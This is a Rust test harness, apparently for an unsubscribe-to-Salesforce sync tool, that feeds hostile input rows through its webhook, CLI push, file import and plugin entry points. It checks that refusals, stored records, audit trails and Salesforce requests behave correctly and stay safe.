        .unwrap();
    let ts = now_ms() / 1000;
    let length = if chunked {
        "Transfer-Encoding: chunked".to_string()
    } else {
        format!("Content-Length: {}", body.len())
    };
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nX-Timestamp: {ts}\r\nX-Signature: {}\r\n{length}\r\nConnection: close\r\n\r\n",
        sign(ts, body)
    );
    let mut writer = stream.try_clone().map_err(|e| e.to_string())?;
    let body = body.to_vec();
    let sender = std::thread::spawn(move || {
        let _ = writer.write_all(head.as_bytes());
        if chunked {
            for chunk in body.chunks(64 << 10) {
                if writer
                    .write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
                    .and_then(|_| writer.write_all(chunk))
                    .and_then(|_| writer.write_all(b"\r\n"))
                    .is_err()
                {
                    return;
                }
            }
            let _ = writer.write_all(b"0\r\n\r\n");
        } else {
            let _ = writer.write_all(&body);
        }
    });
    let mut got = Vec::new();
    let mut buf = [0u8; 8192];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
            // A reset after the answer arrived: keep what was read.
            Err(_) if !got.is_empty() => break,
            Err(e) => return Err(format!("no answer: {e}")),
        }
    }
    drop(stream);
    let _ = sender.join();
    let text = String::from_utf8_lossy(&got).to_string();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("not an HTTP answer: {text:?}"))?;
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    Ok((status, body))
}

// ---------------------------------------------------------------------------
// The harness: one entry point, its emulator, its SQLite file.

/// What an entry point answered.
enum Answer {
    Http(u16, String),
    Exit(Output),
    Push(Result<api::PushOutcome, api::SyncError>),
}

impl Answer {
    fn describe(&self) -> String {
        match self {
            Answer::Http(status, body) => format!("HTTP {status} {}", body.trim()),
            Answer::Exit(out) => {
                let stderr = String::from_utf8_lossy(&out.stderr);
                let stdout = String::from_utf8_lossy(&out.stdout);
                let line = stderr
                    .lines()
                    .find(|l| l.starts_with("error:"))
                    .or_else(|| {
                        stdout.lines().find(|l| {
                            l.contains("not read")
                                || l.contains("not recorded")
                                || l.contains("recorded:")
                        })
                    })
                    .or_else(|| stdout.lines().next())
                    .unwrap_or("");
                format!("exit {:?} {}", out.status.code(), line.trim())
            }
            Answer::Push(r) => format!("{r:?}"),
        }
    }
}

fn seed() -> OrgSeed {
    OrgSeed {
        records: vec![
            SeedRecord::lead("ada@example.com").with_id(LEAD),
            SeedRecord::contact("linus@example.com").with_id(CONTACT),
            SeedRecord::lead("bystander@example.com").with_id(BYSTANDER),
        ],
        ..OrgSeed::default()
    }
}

struct Harness {
    entry: Entry,
    emu: Emulator,
    dir: tempfile::TempDir,
    db: PathBuf,
    server: Option<Server>,
    caps: Option<Capabilities>,
    /// Unsubscribes recorded so far (what `status` must count).
    held: u64,
    report: Vec<String>,
    failures: Vec<String>,
    checked: usize,
}

macro_rules! ensure {
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return Err(format!($($fmt)+));
        }
    };
}

impl Harness {
    fn new(entry: Entry, extra_config: &str) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let emu = crate::support::emulator(seed());
        write_config(dir.path(), &emu, extra_config);
        let db = dir.path().join("sync.db");
        let server = (entry == Entry::Webhook).then(|| Server::start(dir.path(), &[]));
        let caps = (entry == Entry::Component).then(|| {
            Capabilities::new(
                org_client(&emu),
                Arc::new(SqliteStorage::open(&db).expect("sqlite")),
            )
        });
        if entry != Entry::Component && entry != Entry::Webhook {
            // The file and its tables exist before the first row.
            let out = command(dir.path())
                .args(["status", "--json"])
                .output()
                .unwrap();
            assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        }
        Harness {
            entry,
            emu,
            dir,
            db,
            server,
            caps,
            held: 0,
            report: Vec::new(),
            failures: Vec::new(),
            checked: 0,
        }
    }

    fn run_all(&mut self) {
        for (i, row) in rows().iter().enumerate() {
            if let Some(why) = row.not_applicable(self.entry) {
                self.report.push(format!("{:<58} n/a: {why}", row.name));
                continue;
            }
            self.checked += 1;
            match self.run_row(i, row) {
                Ok(outcome) => self.report.push(format!("{:<58} {outcome}", row.name)),
                Err(e) => {
                    self.report.push(format!("{:<58} FAILED", row.name));
                    self.failures
                        .push(format!("[{}] {}: {e}", self.entry.name(), row.name));
                }
            }
        }
    }

    fn finish(self) -> (Emulator, tempfile::TempDir, Option<Server>) {
        println!(
            "\n=== hostile inputs through {} ({} rows checked) ===",
            self.entry.name(),
            self.checked
        );
        for line in &self.report {
            println!("  {}", line.chars().take(220).collect::<String>());
        }
        assert!(
            self.failures.is_empty(),
            "{} of {} rows failed through {}:\n{}",
            self.failures.len(),
            self.checked,
            self.entry.name(),
            self.failures.join("\n")
        );
        (self.emu, self.dir, self.server)
    }

    fn deliver(&self, i: usize, row: &Row) -> Result<Answer, String> {
        let dir = self.dir.path();
        let json = row.input.json();
        Ok(match self.entry {
            Entry::Webhook => {
                let base = &self.server.as_ref().unwrap().base;
                let (status, body) = post_raw(base, "/v1/unsubscribes", &json, false)?;
                Answer::Http(status, body)
            }
            Entry::PushArg => Answer::Exit(
                with_creds(dir)
                    .args([
                        OsStr::new("push"),
                        OsStr::new("--json"),
                        OsStr::from_bytes(&json),
                    ])
                    .output()
                    .map_err(|e| e.to_string())?,
            ),
            Entry::PushStdin => {
                let mut child = with_creds(dir)
                    .args(["push", "--json", "-"])
                    .stdin(Stdio::piped())
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped())
                    .spawn()
                    .map_err(|e| e.to_string())?;
                let mut stdin = child.stdin.take().unwrap();
                // The host stops reading at its cap: a broken pipe is expected.
                let writer = std::thread::spawn(move || {
                    let _ = stdin.write_all(&json);
                });
                let out = child.wait_with_output().map_err(|e| e.to_string())?;
                let _ = writer.join();
                Answer::Exit(out)
            }
            Entry::ImportJsonl | Entry::ImportCsv => {
                let (name, bytes) = match (self.entry, &row.input) {
                    (Entry::ImportJsonl, input) => {
                        let mut b = input.json();
                        b.push(b'\n');
                        (format!("row-{i}.jsonl"), b)
                    }
                    (_, Input::Event(e)) => (format!("row-{i}.csv"), e.csv()),
                    (_, Input::Raw { csv, .. }) => (format!("row-{i}.csv"), csv.clone().unwrap()),
                };
                std::fs::write(dir.join(&name), bytes).unwrap();
                let out = with_creds(dir)
                    .args(["import", &name])
                    .output()
                    .map_err(|e| e.to_string())?;
                std::fs::remove_file(dir.join(&name)).unwrap();
                Answer::Exit(out)
            }
            Entry::Component => {
                let Input::Event(e) = &row.input else {
                    unreachable!()
                };
                let r = plugin_runtime()
                    .push(
                        self.caps.as_ref().unwrap(),
                        &crate::support::settings(),
                        &e.event(now_ms()),
                    )
                    .map_err(|h| format!("the component trapped: {h}"))?;
                Answer::Push(r)
            }
        })
    }

    /// Waits until `serve` has handled everything accepted.
    fn settle(&self) -> Result<(), String> {
        if self.entry != Entry::Webhook {
            return Ok(());
        }
        let started = Instant::now();
        while count_rows(&self.db, "inbox") > 0 {
            ensure!(
                started.elapsed() < Duration::from_secs(20),
                "the inbox did not drain\n{}",
                self.server.as_ref().unwrap().log()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(())
    }

    fn run_row(&mut self, i: usize, row: &Row) -> Result<String, String> {
        let handling = row.handling(self.entry).clone();
        let before = ledger(&self.db);
        let dead_before = count_rows(&self.db, "dead_letter");
        let calls_before = self.emu.call_log().len();
        let t0 = now_ms();
        let answer = self.deliver(i, row)?;
        self.settle()?;
        let t1 = now_ms();
        let outcome = answer.describe();
        let fail = |e: String| format!("{e}\n  answer: {outcome}");
        check_answer(self.entry, &handling, &answer).map_err(fail)?;

        // Storage intact.
        integrity(&self.db).map_err(fail)?;
        let after = ledger(&self.db);
        ensure!(
            count_rows(&self.db, "dead_letter") == dead_before,
            "the row was dead-lettered instead of answered"
        );
        let recorded = match &handling {
            Handling::Recorded(r) => {
                self.held += 1;
                Some(r)
            }
            _ => None,
        };
        self.check_status().map_err(fail)?;
        match recorded {
            None => ensure!(
                after == before,
                "a refused input changed the ledger: {:?}",
                diff_keys(&before, &after)
            ),
            Some(r) => self
                .check_recorded(r, &before, &after, t0, t1)
                .map_err(fail)?,
        }

        // Nothing unescaped reached Salesforce.
        let calls = self.emu.call_log()[calls_before..].to_vec();
        check_calls(&calls).map_err(fail)?;
        let writes = matches!(
            self.entry,
            Entry::Webhook | Entry::PushArg | Entry::PushStdin | Entry::Component
        );
        match recorded.and_then(|r| r.sfid).filter(|_| writes) {
            Some(id) => ensure!(
                calls
                    .iter()
                    .any(|c| c.method == "PATCH" && c.path.ends_with(&format!("/{id}"))),
                "no PATCH of {id}: {calls:?}"
            ),
            None => ensure!(
                calls.is_empty(),
                "requests were sent for this row: {calls:?}"
            ),
        }
        Ok(outcome)
    }

    fn check_status(&self) -> Result<(), String> {
        let held = match &self.caps {
            Some(caps) => {
                plugin_runtime()
                    .status(caps, &crate::support::settings())
                    .map_err(|e| e.to_string())?
                    .map_err(|e| format!("{e:?}"))?
                    .held
            }
            None => {
                let out = command(self.dir.path())
                    .args(["status", "--json"])
                    .output()
                    .unwrap();
                ensure!(
                    out.status.code() == Some(0),
                    "status failed: {}",
                    text(&out)
                );
                let v: serde_json::Value = serde_json::from_slice(&out.stdout)
                    .map_err(|e| format!("status --json: {e}"))?;
                v["ledger"]["held"].as_u64().unwrap_or(u64::MAX)
            }
        };
        ensure!(
            held == self.held,
            "status counts {held} held, expected {}",
            self.held
        );
        Ok(())
    }

    fn check_recorded(
        &self,
        r: &Recorded,
        before: &Ledger,
        after: &Ledger,
        t0: i64,
        t1: i64,
    ) -> Result<(), String> {
        for key in diff_keys(before, after) {
            ensure!(
                belongs_to(&key, &r.person),
                "key {key:?} changed, which is not person {:?}'s",
                r.person
            );
        }
        let key = format!("p/{}", escape(&r.person));
        let stored: serde_json::Value = after
            .get(&key)
            .map(|v| serde_json::from_slice(v).unwrap())
            .ok_or_else(|| format!("no record {key:?}"))?;
        let source = r
            .source
            .clone()
            .unwrap_or_else(|| self.entry.default_source().to_string());
        ensure!(
            stored["person_id"] == r.person.as_str(),
            "person_id stored as {}",
            stored["person_id"]
        );
        ensure!(stored["held"] == true, "not held: {stored}");
        ensure!(
            stored["email"].as_str() == r.email.as_deref(),
            "email stored as {:?}, expected {:?}",
            stored["email"]
                .as_str()
                .map(|s| s.chars().take(80).collect::<String>()),
            r.email
        );
        ensure!(
            stored["source"] == source.as_str(),
            "source stored as {}",
            stored["source"]
        );
        ensure!(
            stored["salesforce_id"]["id"].as_str() == r.sfid,
            "Salesforce ID stored as {}",
            stored["salesforce_id"]
        );
        ensure!(
            stored["invalid_id"].as_str() == r.invalid_id.as_ref().map(|(v, _)| v.as_str()),
            "malformed ID kept as {}",
            stored["invalid_id"]
        );
        let at = stored["occurred_at"].as_i64().unwrap_or(i64::MIN);
        match (r.at, r.note) {
            (Some(expected), _) => ensure!(at == expected, "occurred_at {at}, expected {expected}"),
            (None, Some(n)) if n.contains("implausible") => ensure!(
                (t0..=t1).contains(&at),
                "occurred_at {at} is not the time received ({t0}..{t1})"
            ),
            _ => {}
        }

        // The audit trail, as an operator reads it.
        let trail = self.audit(&r.person)?;
        ensure!(
            trail["person-id"] == r.person.as_str(),
            "audit names {}",
            trail["person-id"]
        );
        ensure!(trail["held"] == true, "audit: not held");
        // The trail shows the ID held, else the malformed one as sent (its
        // invalid-ID entry says why).
        let shown = r.sfid.or(r.invalid_id.as_ref().map(|(v, _)| v.as_str()));
        ensure!(
            trail["salesforce-id"].as_str() == shown,
            "audit: Salesforce ID {}, expected {shown:?}",
            trail["salesforce-id"]
        );
        let entries = trail["entries"].as_array().cloned().unwrap_or_default();
        let received = entries
            .iter()
            .find(|e| e["kind"] == "received")
            .ok_or("no received entry")?;
        let detail = received["detail"].as_str().unwrap_or("");
        ensure!(
            detail.starts_with(&format!("source={source} occurred-at=")),
            "audit detail {detail:?} does not carry the source {source:?} exactly"
        );
        if let Some(note) = r.note {
            ensure!(
                detail.contains(note),
                "audit detail {detail:?} lacks the note {note:?}"
            );
        }
        self.audit_text_is_printable(&r.person)?;
        if let Some((value, words)) = &r.invalid_id {
            let e = entries
                .iter()
                .find(|e| e["kind"] == "invalid-id")
                .ok_or("no invalid-ID entry")?;
            let d = e["detail"].as_str().unwrap_or("");
            ensure!(
                d.contains(&format!("{value:?}")) && d.contains(words),
                "invalid-ID entry {d:?}"
            );
        }
        Ok(())
    }

    /// `audit` as an operator reads it on a terminal: whatever the row
    /// held, no control character (an escape sequence) reaches the screen.
    fn audit_text_is_printable(&self, person: &str) -> Result<(), String> {
        if self.caps.is_some() {
            return Ok(());
        }
        let out = command(self.dir.path())
            .args(["audit", "--", person])
            .output()
            .unwrap();
        ensure!(out.status.code() == Some(0), "audit failed: {}", text(&out));
        let shown = String::from_utf8_lossy(&out.stdout);
        ensure!(
            !shown.chars().any(|c| c.is_control() && c != '\n'),
            "audit prints control characters: {shown:?}"
        );
        Ok(())
    }

    fn audit(&self, person: &str) -> Result<serde_json::Value, String> {
        match &self.caps {
            Some(caps) => {
                let trail = plugin_runtime()
                    .audit(caps, person)
                    .map_err(|e| e.to_string())?
                    .map_err(|e| format!("{e:?}"))?
                    .ok_or("no trail")?;
                // In the documented shape, the one `audit --json` prints.
                unsubscribe_sync::app::json::to_json(&trail).map_err(|e| e.to_string())
            }
            None => {
                let out = command(self.dir.path())
                    .args(["audit", "--json", "--", person])
                    .output()
                    .unwrap();
                ensure!(out.status.code() == Some(0), "audit failed: {}", text(&out));
                serde_json::from_slice(&out.stdout).map_err(|e| format!("audit --json: {e}"))
            }
        }
    }
}

fn diff_keys(before: &Ledger, after: &Ledger) -> Vec<String> {
    let keys: BTreeSet<&String> = before.keys().chain(after.keys()).collect();
    keys.into_iter()
        .filter(|k| before.get(*k) != after.get(*k))
        .cloned()
        .collect()
}

/// The message of the documented `--json` error object a refused command
/// printed on stdout: exactly `{"error": {"kind": "usage", "message",
/// "what-to-do"}}`.
fn usage_error_message(out: &std::process::Output) -> Result<String, String> {
    error_message(out, "usage")
}

/// The message of the documented `--json` error object of `kind` on stdout.
fn error_message(out: &std::process::Output, kind: &str) -> Result<String, String> {
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).map_err(|e| {
        format!(
            "stdout is not the JSON error object ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    })?;
    let error = v["error"].as_object().ok_or(format!("not an error: {v}"))?;
    let mut keys: Vec<&str> = error.keys().map(String::as_str).collect();
    keys.sort_unstable();
    ensure!(
        v.as_object().map(|o| o.len()) == Some(1)
            && keys == ["kind", "message", "what-to-do"]
            && error["kind"] == kind
            && error["what-to-do"].is_string(),
        "not the documented {kind} error: {v}"
    );
    Ok(error["message"].as_str().unwrap_or("").to_string())
}

fn check_answer(entry: Entry, handling: &Handling, answer: &Answer) -> Result<(), String> {
    use Refusal::*;
    match (handling, answer) {
        (Handling::Refused(TooLarge, _), Answer::Http(status, _)) => {
            ensure!(*status == 413, "expected 413, got {status}");
        }
        (Handling::Refused(_, says), Answer::Http(status, body)) => {
            ensure!(*status == 400, "expected 400, got {status}");
            let v: serde_json::Value =
                serde_json::from_str(body).map_err(|e| format!("the 400 is not JSON: {e}"))?;
            let error = v["error"]["message"].as_str().unwrap_or("");
            ensure!(
                error.contains(says),
                "the 400's error {error:?} does not say {says:?}"
            );
        }
        (Handling::Refused(_, says), Answer::Exit(out)) => {
            ensure!(out.status.code() == Some(2), "expected exit 2");
            // `push --json` prints its error as the documented error object
            // on stdout, never an outcome.
            let stdout = if matches!(entry, Entry::PushArg | Entry::PushStdin) {
                usage_error_message(out).map_err(|e| format!("a refused push: {e}"))?
            } else {
                String::from_utf8_lossy(&out.stdout).into_owned()
            };
            let all = format!("{stdout}{}", String::from_utf8_lossy(&out.stderr));
            ensure!(
                all.contains(says),
                "the output does not say {says:?}: {all}"
            );
        }
        (Handling::Refused(InvalidEvent, says), Answer::Push(r)) => match r {
            Err(api::SyncError::InvalidEvent(m)) => {
                ensure!(
                    m.contains(says),
                    "invalid-event {m:?} does not say {says:?}"
                )
            }
            other => return Err(format!("expected invalid-event, got {other:?}")),
        },
        (Handling::Recorded(_), Answer::Http(status, _)) => {
            ensure!(*status == 202, "expected 202, got {status}");
        }
        (Handling::Recorded(r), Answer::Exit(out))
            if matches!(entry, Entry::PushArg | Entry::PushStdin) =>
        {
            let stderr = String::from_utf8_lossy(&out.stderr);
            if r.invalid_id.is_some() {
                ensure!(
                    // Recorded, not written until a valid ID comes: a
                    // requirement (3), not a usage error (2: nothing done).
                    out.status.code() == Some(3),
                    "expected exit 3 (recorded without an ID)"
                );
                // With --json, the error object on stdout says it.
                let message = error_message(out, "requirement")?;
                ensure!(
                    message.contains("invalid Salesforce ID")
                        && message.contains("recorded without an ID"),
                    "{message}"
                );
            } else {
                ensure!(out.status.code() == Some(0), "expected exit 0: {stderr}");
                let v: serde_json::Value =
                    serde_json::from_slice(&out.stdout).map_err(|e| format!("push --json: {e}"))?;
                match r.sfid {
                    Some(id) => ensure!(
                        v["outcome"] == "written" && v["target"]["id"] == id,
                        "not written to {id}: {v}"
                    ),
                    None => ensure!(
                        v == serde_json::json!({"outcome": "skipped-no-salesforce-id"}),
                        "not skipped: {v}"
                    ),
                }
            }
        }
        (Handling::Recorded(r), Answer::Exit(out)) => {
            let stdout = String::from_utf8_lossy(&out.stdout);
            ensure!(out.status.code() == Some(0), "expected exit 0");
            ensure!(stdout.contains("1 added"), "not added: {stdout}");
            if r.invalid_id.is_some() {
                ensure!(
                    // A problem is named by its line: the record's (2, under
                    // the CSV header; 1 in JSON lines).
                    stdout.contains(&format!(
                        "line {}: recorded: invalid Salesforce ID",
                        if entry == Entry::ImportCsv { 2 } else { 1 }
                    )),
                    "{stdout}"
                );
            }
        }
        (Handling::Recorded(r), Answer::Push(result)) => match (result, &r.invalid_id, r.sfid) {
            (Err(api::SyncError::InvalidSalesforceId(p)), Some((value, words)), _) => {
                ensure!(&p.value == value && p.reason.contains(words), "{p:?}")
            }
            (Ok(api::PushOutcome::Written(w)), None, Some(id)) => {
                ensure!(w.target.id == id, "{w:?}")
            }
            (Ok(api::PushOutcome::SkippedNoSalesforceId), None, None) => {}
            (other, _, _) => return Err(format!("unexpected {other:?}")),
        },
        (Handling::Nothing, Answer::Exit(out)) => {
            let stdout = String::from_utf8_lossy(&out.stdout);
            ensure!(out.status.code() == Some(0), "expected exit 0");
            ensure!(stdout.contains("imported 0 events"), "{stdout}");
        }
        (h, _) => return Err(format!("no rule for {h:?} through {}", entry.name())),
    }
    Ok(())
}

// ---------------------------------------------------------------------------
// The tests: one per entry point.

/// Every row as the body of a correctly signed `POST /v1/unsubscribes` to
/// `serve` running as a process; then a 10 MiB chunked body (413 while
/// streaming), and the service still healthy and taking events.
#[test]
fn hostile_inputs_through_the_webhook() {
    let mut h = Harness::new(Entry::Webhook, "");
    h.run_all();
    let base = h.server.as_ref().unwrap().base.clone();
    // The cap also holds for a body without a length.
    let big = format!(
        r#"{{"person_id":"p-chunked","email":"{}"}}"#,
        "a".repeat(10 * MIB)
    );
    let (status, _) = post_raw(&base, "/v1/unsubscribes", big.as_bytes(), true).unwrap();
    assert_eq!(status, 413, "a chunked 10 MiB body");
    let db = h.db.clone();
    let (emu, dir, server) = h.finish();
    let mut server = server.unwrap();
    assert!(server.child.try_wait().unwrap().is_none(), "serve exited");
    let (status, health) = crate::support::serve::get(&format!("{base}/healthz"));
    assert_eq!(status, 200, "{health}");
    // The next event is taken and pushed as usual.
    let (status, answer) = post_raw(
        &base,
        "/v1/unsubscribes",
        format!(r#"{{"person_id":"p-after","salesforce_id":"{BYSTANDER}"}}"#).as_bytes(),
        false,
    )
    .unwrap();
    assert_eq!(status, 202, "{answer}");
    assert!(
        crate::support::serve::eventually(Duration::from_secs(15), || emu
            .record(BYSTANDER)
            .unwrap()
            .has_opted_out_of_email),
        "{}",
        server.log()
    );
    assert_eq!(count_rows(&db, "dead_letter"), 0);
    integrity(&db).unwrap();
    assert_eq!(server.terminate(Duration::from_secs(20)), Some(0));
    drop(dir);
}

/// Every row as the argument of `unsubscribe-sync push`.
#[test]
fn hostile_inputs_through_push_arguments() {
    let mut h = Harness::new(Entry::PushArg, "");
    h.run_all();
    h.finish();
}

/// Every row on the standard input of `unsubscribe-sync push -`.
#[test]
fn hostile_inputs_through_push_stdin() {
    let mut h = Harness::new(Entry::PushStdin, "");
    h.run_all();
    h.finish();
}

/// Every row as a one-line JSON-lines file for `unsubscribe-sync import`;
/// then a nightly (REST collections) over everything recorded: its SOQL
/// names exactly the two valid IDs, it writes exactly those two records and
/// leaves the bystander untouched.
#[test]
fn hostile_inputs_through_import_of_json_lines() {
    let mut h = Harness::new(Entry::ImportJsonl, "");
    h.run_all();
    nightly_touches_only_the_valid_records(&h, &[]);
    h.finish();
}

/// Every row as a CSV file (header and one quoted record) for
/// `unsubscribe-sync import`; then, with 2000 well-formed unsubscribes more
/// (Bulk API 2.0 needs 1000 per object), a nightly through Bulk API 2.0,
/// whose upload is CSV too: exactly the valid records written, the
/// bystander untouched.
#[test]
fn hostile_inputs_through_import_of_csv() {
    let mut h = Harness::new(Entry::ImportCsv, "\n[settings]\nbulk_threshold = 1\n");
    h.run_all();
    // Bulk API 2.0 takes over from 1000 held records per object: 1000
    // more Leads and Contacts, imported as CSV too.
    let filler = sf_emulator::synthetic_org(2000, 0.0, 3);
    let mut csv = String::from("person_id,salesforce_id,email\n");
    for (i, rec) in filler.records.iter().enumerate() {
        csv.push_str(&format!(
            "\"filler, {i}\",{},\"\"\"Filler\"\" <{}>\"\n",
            rec.id.as_deref().unwrap(),
            rec.email.as_deref().unwrap()
        ));
    }
    let extra: Vec<String> = filler
        .records
        .iter()
        .map(|r| r.id.clone().unwrap())
        .collect();
    h.emu.seed(filler).unwrap();
    std::fs::write(h.dir.path().join("filler.csv"), csv).unwrap();
    let out = with_creds(h.dir.path())
        .args(["import", "filler.csv"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("2000 added"),
        "{}",
        text(&out)
    );
    h.held += 2000;
    nightly_touches_only_the_valid_records(&h, &extra);
    for id in &extra {
        assert!(
            h.emu.record(id).unwrap().has_opted_out_of_email,
            "{id} not written"
        );
    }
    h.finish();
}

/// Every event row handed to the component's `push` directly (no JSON
/// layer in front), over a real SQLite file and the emulator.
#[test]
fn hostile_inputs_through_the_component() {
    let mut h = Harness::new(Entry::Component, "");
    h.run_all();
    h.finish();
}

/// Runs a nightly over everything recorded: every request well formed, the
/// SOQL literals exactly the valid IDs held (REST collections) or none
/// (Bulk API 2.0, used when `extra` IDs are held too), the valid records
/// written, the bystander untouched.
fn nightly_touches_only_the_valid_records(h: &Harness, extra: &[String]) {
    let expect_bulk = !extra.is_empty();
    let mut valid: BTreeSet<String> = VALID_IDS.iter().map(|s| s.to_string()).collect();
    valid.extend(extra.iter().cloned());
    let calls_before = h.emu.call_log().len();
    let out = with_creds(h.dir.path())
        .args(["nightly", "--json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["held"], h.held, "{report:#}");
    assert_eq!(report["failed"], 0, "{report:#}");
    assert!(report["stopped"].is_null(), "{report:#}");
    let calls = h.emu.call_log()[calls_before..].to_vec();
    let literals =
        check_calls_against(&calls, &valid).unwrap_or_else(|e| panic!("{e}\n{calls:#?}"));
    let bulk = calls.iter().any(|c| c.path.contains("/jobs/"));
    assert_eq!(bulk, expect_bulk, "{:?}", report["strategy"]);
    if bulk {
        // Bulk API 2.0 reads by a query of the opted-out records (no ID
        // literals) and writes by an uploaded CSV of IDs.
        assert!(literals.is_empty(), "{literals:?}");
    } else {
        assert_eq!(
            literals,
            VALID_IDS.iter().map(|s| s.to_string()).collect(),
            "the nightly's SOQL literals"
        );
    }
    for id in VALID_IDS {
        assert!(
            h.emu.record(id).unwrap().has_opted_out_of_email,
            "{id} not written"
        );
    }
    let bystander = h.emu.record(BYSTANDER).unwrap();
    assert!(
        !bystander.has_opted_out_of_email && bystander.write_count == 0,
        "the bystander was touched: {bystander:?}"
    );
    integrity(&h.db).unwrap();
}
